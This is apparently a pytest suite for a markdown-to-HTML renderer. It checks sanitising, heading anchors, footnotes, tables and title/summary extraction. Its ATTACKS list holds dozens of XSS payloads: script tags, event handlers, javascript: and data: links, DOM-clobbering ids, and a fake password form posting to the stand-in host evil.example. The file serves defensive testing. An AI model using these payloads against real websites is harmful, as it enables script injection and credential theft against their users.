from __future__ import annotations

import re
from urllib.parse import unquote

import pytest

from app.article.markdown import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:x'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object>",
    "<embed src='x'>",
    "<applet code='x'></applet>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example'>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<body onload=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<h1 id=cookie>x</h1>",
    "# x {#cookie}",
    "<p id=location>x</p>",
    "<a name=document href=x>x</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<button onclick=alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]
FORBIDDEN_TAGS = re.compile(
    r"<\s*/?\s*(script|style|svg|math|iframe|object|embed|applet|link|meta|base|form|input|button"
    r"|body|video|template|noscript|textarea|marquee)\b",
    re.IGNORECASE,
)
TAG = re.compile(r"<[a-z][^>]*>", re.IGNORECASE)


def attributes(html: str) -> dict[str, str]:
    """Every attribute of every tag, in one dictionary."""
    pairs = (re.findall(r"""([\w:-]+)\s*=\s*"([^"]*)""", tag) for tag in TAG.findall(html))
    return {name.lower(): value for tag in pairs for name, value in tag}


class TestSanitising:
    @pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
    def test_leaves_nothing_that_runs(self, attack):
        for body in (attack, f"text {attack} text", f"> {attack}", f"- {attack}"):
            html = render(body).html
            assert not FORBIDDEN_TAGS.search(html)
            found = attributes(html)
            assert not [name for name in found if name.startswith("on")]
            assert not {"style", "srcdoc", "background"} & set(found)
            for name in ("href", "src"):
                assert re.match(r"(https?:|mailto:|[^:]*$)", found.get(name, ""))
            for name in ("id", "name"):
                assert found.get(name, "user-content-").startswith("user-content-")

    def test_code_is_shown_and_not_run(self):
        html = render("```html\n<script>alert(1)</script>\n```").html
        assert "&lt;script&gt;" in html

    def test_links_lead_outside_without_a_trace(self):
        html = render("[x](https://example.com)").html
        assert 'rel="noopener noreferrer nofollow"' in html

    @pytest.mark.parametrize(
        "harmless",
        [
            "https://example.com/?a=b#c",
            "http://example.com",
            "mailto:ada@example.com",
            "/a/b",
            "../c",
            "page.md",
        ],
    )
    def test_harmless_links_stay(self, harmless):
        assert f'href="{harmless}"' in render(f"[x]({harmless})").html

    def test_harmless_html_stays(self):
        html = render("H<sub>2</sub>O <kbd>Ctrl</kbd> <abbr title='x'>y</abbr>").html
        assert html == '<p>H<sub>2</sub>O <kbd>Ctrl</kbd> <abbr title="x">y</abbr></p>\n'


class TestRendering:
    @pytest.mark.parametrize(
        "body, html",
        [
            ("**a** *b* `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>\n"),
            ("~~a~~", "<p><s>a</s></p>\n"),
            ("```py\nx\n```", '<pre><code class="language-py">x\n</code></pre>\n'),
            ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
            ("", ""),
        ],
    )
    def test_makes_html(self, body, html):
        assert render(body).html == html

    def test_makes_tables(self):
        html = render("| a |\n|---|\n| b |").html
        assert "<th>a</th>" in html
        assert "<td>b</td>" in html

    @pytest.mark.parametrize("ending", ["\n", "\r\n", "\r"])
    def test_every_line_ending_ends_a_line(self, ending):
        assert '<h1 id="user-content-a">a</h1>\n<p>b</p>' in render(f"# a{ending}{ending}b").html

    @pytest.mark.parametrize(
        "bomb",
        [
            "[" * 20_000,
            "> " * 5_000,
            "*a " * 10_000,
            "<" * 50_000,
            "`" * 50_000,
            "![" * 10_000,
            "- " * 2_000,
        ],
    )
    @pytest.mark.timeout(20)
    def test_absurd_nesting_ends_soon(self, bomb):
        render(bomb)


class TestAnchors:
    @pytest.mark.parametrize(
        "heading",
        [
            "## Title {#anchor}",
            "## Title { #anchor }",
            "## Title {#anchor} ##",
            "Title {#anchor}\n---",
        ],
    )
    def test_an_anchor_becomes_the_headings_id(self, heading):
        assert render(heading).html == '<h2 id="user-content-anchor">Title</h2>\n'

    def test_it_is_not_part_of_the_title(self):
        assert render("# Title {#anchor}").title == "Title"

    @pytest.mark.parametrize(
        "heading, text",
        [
            ("## Title {x}", "Title {x}"),
            ("## Title {.class}", "Title {.class}"),
            ("## A {#b} c", "A {#b} c"),
            ("## `{#a}`", "<code>{#a}</code>"),
        ],
    )
    def test_anything_else_stays_text(self, heading, text):
        assert f">{text}</h2>" in render(heading).html

    @pytest.mark.parametrize("anchor", ['a"onclick="x', "a b", "<b>"])
    def test_it_holds_no_markup(self, anchor):
        assert "onclick" not in attributes(render(f"## Title {{#{anchor}}}").html)


class TestFacts:
    @pytest.mark.parametrize(
        "body, title",
        [
            ("# One\n\n# Two", "One"),
            ("text\n\n## Later", "Later"),
            ("# **Bold** `code`", "Bold code"),
            ("# a\\*b &amp; c", "a*b & c"),
            ("no heading", ""),
            ("# \n\n# Full", "Full"),
            ("# <b>x</b>", "x"),
        ],
    )
    def test_the_title_is_the_first_headings_text(self, body, title):
        assert render(body).title == title

    @pytest.mark.parametrize(
        "body, summary",
        [
            ("# One\n\nFirst *line*\nsecond.\n\nMore", "First line second."),
            ("[link](x) ![image](y)", "link"),
            ("- item", "item"),
            ("# Only", ""),
        ],
    )
    def test_the_summary_is_the_first_paragraphs_text(self, body, summary):
        assert render(body).summary == summary


def test_a_link_within_the_text_leads_to_its_heading():
    html = render("# Start { #start }\n\nSee [the start](#start).").html
    assert 'id="user-content-start"' in html
    assert 'href="#user-content-start"' in html


def ids(html: str) -> set[str]:
    return set(re.findall(r' (?:id|name)="([^"]*)"', html))


def targets(html: str) -> set[str]:
    return {unquote(link) for link in re.findall(r'href="#([^"]*)"', html)}


class TestHeadings:
    @pytest.mark.parametrize(
        "heading, name",
        [
            ("Setup", "setup"),
            ("Getting Started: it's *easy*", "getting-started-its-easy"),
            ("`APIRouter` class", "apirouter-class"),
            ("安装 与 配置", "安装-与-配置"),
            ("हिन्दी", "हिन्दी"),
            ("a_b - c", "a_b---c"),
        ],
    )
    def test_has_the_id_that_github_gives_it(self, heading, name):
        assert f'<h2 id="user-content-{name}">' in render(f"## {heading}").html

    def test_the_same_text_again_gets_a_number(self):
        html = render("# A\n\n# A\n\n# A-1\n\n# B {#a-2}\n\n# A").html
        assert re.findall(r'id="user-content-([^"]*)"', html) == ["a", "a-1", "a-1-1", "a-2", "a-3"]

    def test_one_of_signs_alone_has_none(self):
        assert render("# !?").html == "<h1>!?</h1>\n"


class TestLinksWithinAPage:
    @pytest.mark.parametrize(
        "body",
        [
            "[go](#setup)\n\n## Setup",
            "[go](#安装)\n\n## 安装",
            "[go](#x)\n\n## Setup {#x}",
            '<a href="#setup">go</a>\n\n## Setup',
            '[go](#y)\n\n<a id="y"></a>',
            '[go](#y)\n\n<a name="y"></a>',
            '[go](#y)\n\n<div id="y">\n\na\n\n</div>',
            "[go][r]\n\n## Setup\n\n[r]: #setup",
            "[go](#user-content-setup)\n\n## Setup",
            "a[^1] b[^n] c[^1]\n\n[^1]: One.\n[^n]: Two.",
        ],
    )
    def test_lead_somewhere(self, body):
        html = render(body).html
        assert targets(html)
        assert targets(html) <= ids(html)
        assert all(name.startswith("user-content-") for name in ids(html))

    def test_the_top_and_other_pages_are_left_alone(self):
        html = render("[a](#) [b](page.md#x)").html
        assert 'href="#"' in html
        assert 'href="page.md#x"' in html


class TestTables:
    def test_columns_are_aligned(self):
        html = render("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |").html
        for cell in ("th", "td"):
            found = re.findall(rf'<{cell}(?: align="(\w+)")?>', html)
            assert found == ["left", "center", "right", ""]
        assert "style" not in html


class TestFootnotes:
    def test_are_as_github_shows_them(self):
        html = render("a[^1]\n\n[^1]: note").html
        assert 'a<sup class="footnote-ref"><a href="#user-content-fn-1"' in html
        assert '<section class="footnotes">' in html
        assert '<li id="user-content-fn-1" class="footnote-item"><p>note <a ' in html
        assert 'href="#user-content-fnref-1" class="footnote-backref"' in html

    def test_are_no_links_to_their_own_text(self):
        assert 'href="note"' not in render("a[^1]\n\n[^1]: note").html

    def test_are_not_part_of_title_and_summary(self):
        rendered = render("# T[^1]\n\nText[^1].\n\n[^1]: note")
        assert (rendered.title, rendered.summary) == ("T", "Text.")

    def test_a_reference_without_a_note_stays_text(self):
        assert render("a[^1]").html == "<p>a[^1]</p>\n"


@pytest.mark.parametrize("tag", ["a", "li", "p", "section", "sup", "table"])
def test_an_author_gives_nothing_a_class(tag):
    html = render(f'<{tag} class="admin-panel">x</{tag}>').html
    assert "class" not in html
